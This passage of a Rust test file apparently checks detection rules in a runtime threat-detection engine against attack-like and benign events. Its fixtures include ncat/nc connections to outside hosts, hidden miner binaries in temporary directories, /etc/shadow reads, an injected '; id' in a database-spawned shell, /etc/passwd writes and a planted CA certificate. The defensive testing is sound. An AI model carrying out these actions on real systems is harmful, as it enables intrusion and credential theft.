                connect("ncat", "203.0.113.9", 443).host(),
                connect("nc", "1.2.3.4", 80).image("nicolaka/netshoot"),
            ],
        ),
    ]
}

#[test]
fn every_rule_fires_on_its_technique_and_not_on_look_alikes() {
    let rules = engine::load(&RulesConfig::default()).unwrap();
    let mut failures = Vec::new();
    let mut covered = BTreeSet::new();
    for (name, positive, negatives) in cases() {
        assert!(covered.insert(name), "{name} listed twice");
        assert!(
            rules.rules().iter().any(|r| r.name == name),
            "{name} is not in the pack"
        );
        let fires = |e: &E| rules.matching(&e.0).any(|r| r.name == name);
        if !fires(&positive) {
            failures.push(format!("{name}: positive did not fire: {:?}", positive.0));
        }
        for (i, negative) in negatives.iter().enumerate() {
            if fires(negative) {
                failures.push(format!("{name}: negative #{i} fired: {:?}", negative.0));
            }
        }
        assert!(!negatives.is_empty(), "{name} has no negative");
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    let all: BTreeSet<_> = rules.rules().iter().map(|r| r.name.as_str()).collect();
    let missing: Vec<_> = all.difference(&covered).collect();
    assert!(missing.is_empty(), "rules without a test: {missing:?}");
    assert!(all.len() >= 80, "only {} rules", all.len());
}

#[test]
fn every_rule_is_documented_tagged_and_has_exceptions() {
    let rules = engine::load(&RulesConfig::default()).unwrap();
    for rule in rules.rules() {
        assert!(rule.desc.len() > 20, "{}: desc", rule.name);
        assert!(
            rule.tags
                .iter()
                .any(|t| t.starts_with('T') && t[1..].starts_with(|c: char| c.is_ascii_digit())),
            "{}: no ATT&CK technique id in {:?}",
            rule.name,
            rule.tags
        );
        assert!(
            rule.tags.iter().any(|t| t.starts_with("mitre_")),
            "{}: no ATT&CK tactic",
            rule.name
        );
        assert!(
            rule.event_types.is_some(),
            "{} runs on every event",
            rule.name
        );
    }
    // Exceptions are part of the source, not the compiled rule: count them there.
    for (file, text) in engine::DEFAULT_PACK {
        let rules = text.matches("\n- rule:").count() + usize::from(text.starts_with("- rule:"));
        let exceptions = text.matches("\n  exceptions:").count();
        assert_eq!(rules, exceptions, "{file}: every rule has exceptions");
    }
}

/// Hidden executables: every place a kit hides a binary fires, including
/// ones dressed as the toolchain directories the rule leaves out; the
/// toolchains' own programs, in their exact shape, do not.
#[test]
fn hidden_executable_rule_sees_disguised_forms_and_spares_toolchains() {
    const RULE: &str = "Hidden executable run";
    let rules = engine::load(&RulesConfig::default()).unwrap();
    let fires = |path: &str| rules.matching(&exec(path).0).any(|r| r.name == RULE);
    let hidden = [
        "/tmp/.x/xmrig",
        "/root/.x",
        "/usr/bin/.sshd",
        "/var/lib/.../kworker",
        "/tmp/..x/miner",
        "/home/app/.config/kdevtmpfsi",
        // A toolchain directory's shape, with a hidden file name.
        "/app/.venv/bin/.xmrig",
        "/root/.cargo/bin/.x",
        // The shape below a hidden directory.
        "/root/.cache/.x/.venv/bin/python",
        "/var/lib/.hide/.local/bin/miner",
        // The shape in a temporary or memory-backed directory.
        "/tmp/.venv/bin/python",
        "/var/tmp/app/.venv/bin/python",
        "/dev/shm/.local/bin/x",
        "/run/user/0/.cargo/bin/cargo",
        // Near misses of the shape: not the manager's program directory.
        "/app/.venv/lib/python3.11/x",
        "/app/.venv/bin/sub/x",
        "/root/.pyenv/miner",
        "/root/.pyenv/versions/.x/bin/python",
        "/root/.rustup/x",
        "/.local/bin/x",
        "/root/.local/bin/../../.x/m",
        "/app/.venvs/bin/x",
        "/app/x.venv/bin/.y",
    ];
    let managed = [
        "/app/.venv/bin/python",
        "/app/.venv/bin/gunicorn",
        "/srv/web/.venv/bin/python3.11",
        "/root/.pyenv/versions/3.11.7/bin/python3.11",
        "/home/dev/.pyenv/shims/python",
        "/root/.cargo/bin/cargo",
        "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
        "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/lib/rustlib/x86_64-unknown-linux-gnu/bin/rust-lld",
        "/home/app/.local/bin/pipx",
        "/home/app/.nvm/versions/node/v20.11.0/bin/node",
        "/root/.cache/pypoetry/virtualenvs/api-Xq3-py3.11/bin/python",
        "/home/dev/.virtualenvs/api/bin/python",
        "/root/.bun/bin/bun",
        "/usr/bin/python3",
        "/usr/lib/../bin/x",
    ];
    let missed: Vec<&str> = hidden.into_iter().filter(|p| !fires(p)).collect();
    let raised: Vec<&str> = managed.into_iter().filter(|p| fires(p)).collect();
    assert!(
        missed.is_empty(),
        "hidden executables not caught: {missed:#?}"
    );
    assert!(raised.is_empty(), "toolchain programs flagged: {raised:#?}");
}

/// The exceptions the benign corpus (e2e/tests/benign.rs) needed, each held
/// against the forms an attacker would dress up as it.
#[test]
fn benign_corpus_exceptions_do_not_cover_their_disguises() {
    use EventType as T;
    let rules = engine::load(&RulesConfig::default()).unwrap();
    let fires = |rule: &str, e: &E| rules.matching(&e.0).any(|r| r.name == rule);
    let socket_chmod = |exe: &str, path: &str| {
        ev(T::Chmod, "fchmodat", "postgres")
            .exe(exe)
            .path(path)
            .mode(0o777)
    };
    let shadow = |comm: &str, exe: &str| open(comm, "/etc/shadow", 0).exe(exe);
    let ca_write = |exe: &str, cmdline: &str, path: &str| {
        let mut e = open("update-ca-certi", path, O_WRONLY | O_CREAT | O_TRUNC).exe(exe);
        e.0.cmdline = cmdline.split(' ').map(str::to_owned).collect();
        e
    };
    let cases: Vec<(&str, E, bool)> = vec![
        // initdb's collation import, and SQL injection through COPY ... PROGRAM.
        (
            "Shell spawned by database",
            exec("sh -c locale -a").parent("postgres"),
            false,
        ),
        (
            "Shell spawned by database",
            exec("sh -c locale -a; id").parent("postgres"),
            true,
        ),
        (
            "Shell spawned by database",
            exec("sh -c locale -a && sh").parent("postgres"),
            true,
        ),
        (
            "Shell spawned by database",
            exec("sh -c id").parent("postgres"),
            true,
        ),
        // PostgreSQL's socket in /tmp, and payloads made executable.
        (
            "Executable bit set in temporary directory",
            socket_chmod("/usr/lib/postgresql/15/bin/postgres", "/tmp/.s.PGSQL.5432"),
            false,
        ),
        (
            "Executable bit set in temporary directory",
            socket_chmod("/tmp/postgres", "/tmp/.s.PGSQL.5432"),
            true,
        ),
        (
            "Executable bit set in temporary directory",
            socket_chmod("/usr/lib/postgresql/15/bin/postgres", "/tmp/payload"),
            true,
        ),
        (
            "Executable bit set in temporary directory",
            socket_chmod("/usr/lib/postgresql/15/bin/postgres", "/tmp/.s.PGSQL.x"),
            true,
        ),
        // cron's PAM account check, and other programs named cron.
        (
            "Read of /etc/shadow",
            shadow("cron", "/usr/sbin/cron"),
            false,
        ),
        ("Read of /etc/shadow", shadow("cron", ""), false),
        ("Read of /etc/shadow", shadow("cron", "/tmp/cron"), true),
        ("Read of /etc/shadow", shadow("cron", "/usr/bin/cat"), true),
        ("Read of /etc/shadow", shadow("cat", ""), true),
        (
            "Read of /etc/shadow",
            shadow("crontab", "/usr/bin/crontab"),
            true,
        ),
        // update-ca-certificates rebuilding the CA store, and other writes
        // by processes with its name.
        (
            "Write below /etc in container",
            ca_write(
                "/usr/bin/dash",
                "update-ca-certi -e /usr/sbin/update-ca-certificates",
                "/etc/ssl/certs/ca-certificates.crt.new",
            ),
            false,
        ),
        (
            "Write below /etc in container",
            ca_write(
                "",
                "update-ca-certi",
                "/etc/ssl/certs/ca-certificates.crt.new",
            ),
            false,
        ),
        (
            "Write below /etc in container",
            ca_write(
                "/usr/bin/dash",
                "update-ca-certi -e /usr/sbin/update-ca-certificates",
                "/etc/passwd",
            ),
            true,
        ),
        (
            "Write below /etc in container",
            ca_write(
                "/tmp/update-ca-certi",
                "update-ca-certi /usr/sbin/update-ca-certificates",
                "/etc/ssl/certs/evil.pem",
            ),
            true,
        ),
        (
            "Write below /etc in container",
            ca_write(
                "/usr/bin/dash",
                "update-ca-certi -e /tmp/update-ca-certificates",
                "/etc/ssl/certs/evil.pem",
            ),
            true,
        ),
    ];
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(rule, event, expected)| fires(rule, event) != *expected)
        .map(|(rule, event, expected)| {
            format!(
                "{rule}: expected {} for comm {:?} exe {:?} cmdline {:?} path {:?}",
                if *expected { "a finding" } else { "none" },
                event.0.comm,
                event.0.exe_path,
                event.0.cmdline,
                event.0.args.as_ref().map(|a| a.path.as_str())
            )
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
